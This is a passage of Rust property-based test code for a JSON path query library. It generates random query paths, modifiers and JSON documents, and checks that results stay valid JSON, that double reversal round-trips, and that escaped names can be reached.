            2 => Just("#".to_owned()),
            1 => "[a-c*?]{1,3}",
            1 => r"\\[.@*|\\]",
            3 => proptest::sample::select(modifier::NAMES.to_vec()).prop_map(|name| format!("@{name}")),
            1 => "@(flatten|join|pretty):(\\{\"(deep|preserve|sortKeys|width)\":(true|3)\\}|[a-c])",
            1 => "![0-9]|!\"x\"|!true|!\\[1\\]",
        ];
        leaf.prop_recursive(4, 24, 4, |path| {
            prop_oneof![
                (path.clone(), "[.|]", path.clone()).prop_map(|(a, by, b)| a + &by + &b),
                proptest::collection::vec(path.clone(), 0..3)
                    .prop_map(|paths| format!("[{}]", paths.join(","))),
                proptest::collection::vec(("(\"[a-c]\":|[a-c]:)?", path.clone()), 0..3).prop_map(
                    |paths| {
                        let paths: Vec<_> =
                            paths.into_iter().map(|(name, path)| name + &path).collect();
                        format!("{{{}}}", paths.join(","))
                    }
                ),
                (
                    path,
                    "(=|==|!=|<|<=|>|>=|%|!%)?(1|\"a*\"|true|~(true|false|null|\\*))?",
                    "#?"
                )
                    .prop_map(|(path, comparison, all)| format!("#({path}{comparison}){all}")),
            ]
        })
    }

    /// Documents in which paths find something.
    fn document() -> impl Strategy<Value = String> {
        let scalar = prop_oneof![
            "-?(0|[1-9][0-9]?)",
            "\"[a-c]{0,2}\"",
            Just("\"[1,{\\\"a\\\":2}]\"".to_owned()),
            Just("true".to_owned()),
            Just("null".to_owned()),
        ];
        scalar.prop_recursive(5, 60, 5, |value| {
            prop_oneof![
                proptest::collection::vec(value.clone(), 0..4)
                    .prop_map(|elements| format!("[{}]", elements.join(", "))),
                proptest::collection::vec(("[a-e.@]{1,2}", value), 0..5).prop_map(|members| {
                    let members: Vec<_> = members
                        .into_iter()
                        .map(|(name, value)| format!("\"{name}\":{value}"))
                        .collect();
                    format!("{{{}}}", members.join(" ,"))
                }),
            ]
        })
    }

    proptest! {
        #[test]
        fn a_result_is_json(text in document(), path in path()) {
            if let Ok(result) = apply_to(&text, &path) {
                prop_assert!(Json::parse(&result).is_ok(), "{}", result);
            }
        }

        #[test]
        fn any_characters_are_a_path(
            text in samples::document(),
            path in "([ab@#.|*?\\\\(){}\\[\\]\"!:,=<>%~0é\u{1f600}]|@this|@flatten:|#\\(|\\PC){0,20}",
        ) {
            if let Ok(result) = apply_to(&text, &path) {
                prop_assert!(Json::parse(&result).is_ok(), "{}", result);
            }
        }

        #[test]
        fn this_is_the_document(text in samples::document()) {
            let json = Json::parse(&text).unwrap();
            for path in ["@this", "@valid", "@this|@this.@this", "[@this].0", "@tostr|@fromstr"] {
                prop_assert_eq!(apply(json, path).unwrap(), json.as_str());
            }
        }

        #[test]
        fn reversed_twice_is_the_same(text in samples::document()) {
            let tokens = |text| Json::parse(text).unwrap().tokens().collect::<Vec<_>>();
            let twice = apply_to(&text, "@reverse|@reverse").unwrap();
            prop_assert_eq!(tokens(&twice), tokens(&text));
        }

        #[test]
        fn every_name_can_be_reached(name in "\\PC{0,8}|[.@*?|#\\\\{}\\[\\]!\"a]{0,4}") {
            let mut text = String::from("{\"other\":0,");
            text.push_str(&modifier::quote(&name).unwrap());
            text.push_str(":1}");
            prop_assert_eq!(apply_to(&text, &escape(&name)), Ok("1".to_owned()));
        }
    }
}
